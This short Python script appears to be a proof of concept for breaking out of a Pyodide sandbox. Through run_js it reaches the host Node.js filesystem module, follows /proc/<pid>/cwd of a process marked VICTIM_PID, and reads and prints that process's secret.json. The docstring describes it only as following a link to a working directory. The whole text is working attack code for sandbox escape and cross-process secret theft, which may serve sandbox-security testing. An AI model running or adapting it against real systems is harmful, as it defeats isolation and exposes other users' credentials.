"""Follows the link to the working directory of another process."""

from pyodide.code import run_js

read = run_js("""(pid) => {
  const fs = process.getBuiltinModule("fs");
  const folder = fs.readlinkSync(`/proc/${pid}/cwd`);
  return fs.readFileSync(`${folder}/secret.json`, "utf8");
}""")
print(read(VICTIM_PID))
